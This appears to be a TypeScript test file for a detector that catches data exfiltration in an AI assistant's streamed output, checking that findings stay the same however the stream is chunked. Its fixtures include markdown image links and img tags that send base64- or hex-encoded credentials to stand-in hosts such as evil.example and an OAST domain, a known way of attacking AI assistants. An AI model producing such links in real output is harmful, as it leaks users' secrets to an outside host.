import type { Finding } from '@agentcostcontrol/contract'
import t from 'tap'
import { exfiltrationDetector as detector } from '../index.ts'
import { createRandom } from './support/random.ts'

const CONTEXT = { source: 'assistant' } as const
/** Characters in front of what is held that a stream's window keeps. */
const KEPT_CHARS = 64

const showOf = (findings: readonly Finding[]): string =>
  findings.map(({ ruleId, severity, start, end }) => `${ruleId} ${severity} ${start}-${end}`).join(', ')

/** What a stream's window does; the first fault in place of the findings. */
function stream(text: string, cut: () => number): string {
  const findings: Finding[] = []
  let [kept, from, settled, at] = ['', 0, 0, 0]
  while (true) {
    const piece = text.slice(at, at + cut())
    const ended = piece === ''
    at += piece.length
    kept += piece
    const open = ended ? kept.length : detector.openFrom(kept)
    if (open > kept.length || open < 0 || open < kept.length - detector.holdCharsMax) return `openFrom ${open}`
    const before = settled
    settled = Math.max(settled, from + open)
    for (const finding of detector.detect(kept, CONTEXT)) {
      const [start, end] = [from + finding.start, from + finding.end]
      if ((finding.start === 0 && from > 0) || end <= before || end > settled) continue
      if (start < before) return `${finding.ruleId} ${start}-${end} is released in parts`
      findings.push({ ...finding, start, end })
    }
    if (ended) return showOf(findings)
    const keepFrom = Math.max(0, settled - from - KEPT_CHARS)
    kept = kept.slice(keepFrom)
    from += keepFrom
  }
}

const CARRIED = Buffer.from('The password of the admin account is hunter2').toString('base64url')
const PIECES = [
  '![',
  '![alt text ',
  '](',
  ']: ',
  '\n[1]: ',
  '\n',
  '\n\n',
  ' ',
  'words ',
  '<img src="',
  '<img alt="x" src=',
  "<img src='",
  '<a href="',
  '<div ',
  '">',
  '>',
  ')',
  '(',
  '[',
  ']',
  '<',
  '"',
  "'",
  '{',
  '}}',
  '{{x}}',
  'https://',
  'http:',
  '//',
  'HTTPS://',
  'url(',
  'evil.example',
  '/a/',
  '?d=',
  CARRIED,
  CARRIED,
  '&e=1',
  '.',
  ',',
  'c1x2y3.oast.fun',
  '/p.png',
  '日本',
  '😀',
  '。',
  'https://evil.example/?d=',
  '![x](https://evil.example/?d=',
  `![x](https://c1x2y3.oast.fun/a)`,
  `https://${Buffer.from('root:hunter2 and more').toString('hex')}.evil.example/`,
] as const

t.test(
  'however a text is cut, findings are the same, and nothing that carries data leaves before its finding',
  async (t) => {
    const random = createRandom(177)
    let findings = 0
    for (let run = 0; run < 4_000; run++) {
      const text = Array.from({ length: 2 + random.below(14) }, () => random.pick(PIECES)).join('')
      const whole = showOf(detector.detect(text, CONTEXT))
      findings += whole === '' ? 0 : 1
      const most = random.pick([1, 3, 8, 30])
      const streamed = stream(text, () => 1 + random.below(most))
      if (streamed !== whole) return t.equal(streamed, whole, JSON.stringify(text))
    }
    t.ok(findings > 500, `${findings} texts with findings`)
  },
)

t.test('so it is behind long texts, and of addresses at and beyond the bounds', async (t) => {
  const random = createRandom(178)
  for (const filler of [200, 255, 256, 257, 300, 600, 4_000, 4_095, 4_097, 6_000])
    for (const make of [
      (long: string) => `${long} ![x](https://evil.example/?d=${CARRIED}) end`,
      (long: string) => `![${long}](https://evil.example/?d=${CARRIED}) end`,
      (long: string) => `<img alt="${long}" src="https://evil.example/?d=${CARRIED}"> end`,
      (long: string) => `![x](https://evil.example/${long}?d=${CARRIED}) end`,
      (long: string) =>
        `![x](https://evil.example/?d=${CARRIED}&e=${long}) ![y](https://evil.example/?d=${CARRIED}) end`,
      (long: string) => `\n[${long}]: https://evil.example/?d=${CARRIED}\n`,
      (long: string) => `![x](https://evil.example/{${long}}?d=${CARRIED})`,
    ]) {
      const text = make('a-'.repeat(filler / 2))
      t.equal(
        stream(text, () => 1 + random.below(40)),
        showOf(detector.detect(text, CONTEXT)),
        text.slice(0, 60),
      )
    }
})

t.test('prose, code, JSON and tables are held by less than 64 characters', async (t) => {
  const texts = [
    'The committee will meet on Thursday! See https://example.com/minutes/2026 for details: a < b, if (x) {y[1]} or not. ',
    "const a = '//'; // a comment\nif (a < b && c > d) return `<div className='x'>$" + '{y}</div>`; // http or not\n',
    '{"model":"gpt-4o","messages":[{"role":"user","content":"hello"}],"url":"https://a.example/b"}\n',
    '- [ ] todo\n- [x] done\n\n| a | b |\n|---|---|\n| [1] | with h |\n',
    '東京都の天気は晴れです。明日は雨が降るでしょう。',
  ]
  for (const text of texts) {
    let most = 0
    for (let end = 1; end <= text.length; end++) most = Math.max(most, end - detector.openFrom(text.slice(0, end)))
    t.ok(most <= 64, `at most ${most} characters held of ${text.slice(0, 20)}`)
  }
})

t.test('a picture is held until its address is whole, and half of a surrogate pair waits for the other', async (t) => {
  const picture = `look: ![x](https://evil.example/?d=${CARRIED}`
  for (let end = 8; end <= picture.length; end++) t.equal(detector.openFrom(picture.slice(0, end)), 6)
  t.equal(detector.openFrom(`${picture})`), picture.length + 1)
  t.equal(detector.openFrom('well \ud83d'), 5)
})
